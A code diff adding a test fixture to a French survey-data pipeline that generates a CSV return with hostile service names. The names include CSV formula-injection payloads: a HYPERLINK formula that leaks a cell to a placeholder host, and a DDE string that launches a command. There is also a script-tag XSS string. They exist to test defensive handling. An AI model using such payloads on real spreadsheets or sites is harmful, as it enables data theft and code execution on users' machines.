@@ -8,23 +8,51 @@ import { createHash } from 'node:crypto';
 import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { dirname, join, relative, sep } from 'node:path';
 import { readDepartments, readDictionary } from '../../src/cli/sample.ts';
-import { generateSample } from '../../src/sample/generate.ts';
+import { encodeCsv } from '../../src/sample/encode.ts';
+import { generateSample, type SampleDictionary } from '../../src/sample/generate.ts';
+import { validService } from '../bad-input/corpus.ts';
 
 export const repoRoot = join(import.meta.dirname, '..', '..');
 const mfer = join(repoRoot, 'bin', 'mfer.js');
 
 /** Departments of three courts of appeal (Lyon, Bastia, Douai): 7 departments, both Corsicas. */
+/** Service names a spreadsheet or a browser would run if they were written as they are. */
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
+  '+33 1 23 45 67 89',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)',
+  '<script>alert("mfer")</script>',
+];
+
+/** A 2024 mediation return from the Rhône whose service names are hostile (otherwise valid rows). */
+function hostileReturn(dictionary: SampleDictionary): Uint8Array {
+  const rows = HOSTILE_NAMES.map((name, i) => validService(900 + i, { service_nom: name }));
+  const fields = Object.keys(dictionary.fields);
+  const label = (field: string, value: unknown) => dictionary.fields[field].codes?.[String(value)]?.[0] ?? value;
+  return encodeCsv({
+    path: 'returns/2024/mediation/caf-69-rhone-hostile.csv',
+    survey: 'mediation',
+    year: 2024,
+    format: 'csv-utf8-bom',
+    headers: fields.map((f) => dictionary.fields[f].headers[0]),
+    rows: rows.map((row) => fields.map((f) => label(f, (row as unknown as Record<string, string | number>)[f]) as string | number)),
+    blankLinesBefore: [],
+  });
+}
+
 export const SMALL_DEPARTMENTS = ['01', '42', '69', '2A', '2B', '59', '62'];
 
 /** Writes `<dir>/data-raw/` (reference + returns for 2023 and 2024) and returns its path. */
-export async function writeSmallInput(dir: string, options: { seed?: number; departments?: readonly string[] } = {}): Promise<string> {
+export async function writeSmallInput(dir: string, options: { seed?: number; departments?: readonly string[]; hostile?: boolean } = {}): Promise<string> {
   const input = join(dir, 'data-raw');
   cpSync(join(repoRoot, 'data-raw', 'reference'), join(input, 'reference'), { recursive: true });
   const keep = new Set(options.departments ?? SMALL_DEPARTMENTS);
   const departments = readDepartments(join(repoRoot, 'data-raw', 'reference', 'departements.csv')).filter((d) => keep.has(d.code));
+  const dictionary = (survey: 'mediation' | 'rencontre', year: number) => readDictionary(join(repoRoot, 'pipelines', 'config', 'surveys'), survey, year);
   const { files } = await generateSample({
     departments,
-    dictionary: (survey, year) => readDictionary(join(repoRoot, 'pipelines', 'config', 'surveys'), survey, year),
+    dictionary,
     seed: options.seed ?? 7,
     scale: 0.08,
     years: [2023, 2024],
@@ -34,6 +62,7 @@ export async function writeSmallInput(dir: string, options: { seed?: number; dep
     mkdirSync(dirname(join(input, file.path)), { recursive: true });
     writeFileSync(join(input, file.path), file.content);
   }
+  if (options.hostile) writeFileSync(join(input, 'returns', '2024', 'mediation', 'caf-69-rhone-hostile.csv'), hostileReturn(dictionary('mediation', 2024)));
   return input;
 }
 
